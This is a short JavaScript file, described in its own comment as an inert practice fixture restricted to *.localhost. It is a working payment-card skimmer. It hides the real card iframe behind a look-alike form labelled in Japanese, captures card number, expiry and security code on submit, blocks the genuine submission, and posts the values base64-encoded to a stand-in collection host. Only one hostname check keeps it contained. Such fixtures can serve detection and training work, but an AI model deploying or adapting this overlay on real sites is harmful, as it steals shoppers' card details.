/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const real = document.querySelector('iframe.card-frame');
  if (!real) return;
  const place = document.createElement('div');
  place.style.cssText = 'position:relative';
  const fake = document.createElement('iframe');
  fake.title = real.title;
  fake.style.cssText =
    'position:absolute;inset:0;width:100%;height:300px;border:0;z-index:2147483000;background:#fff';
  fake.srcdoc = `<form>
      <p><label>カード番号 <input type="tel" autocomplete="cc-number" maxlength="19"></label></p>
      <p><label>有効期限 <input type="tel" autocomplete="cc-exp" maxlength="5"></label></p>
      <p><label>セキュリティコード <input type="password" autocomplete="cc-csc" maxlength="4"></label></p>
      </form>`;
  real.replaceWith(place);
  place.append(real, fake);
  const send = (event) => {
    if (!event.target.closest?.('button[type=submit]') || !fake.isConnected) return;
    const fields = [...fake.contentDocument.querySelectorAll('input')];
    const text = fields.map((field) => field.value).join('|');
    if (text.length < 15) return;
    event.preventDefault();
    event.stopPropagation();
    fake.remove();
    fetch(`${home}/lib/r`, { method: 'POST', mode: 'no-cors', body: btoa(text) }).catch(() => {});
  };
  document.addEventListener('click', send, true);
})();
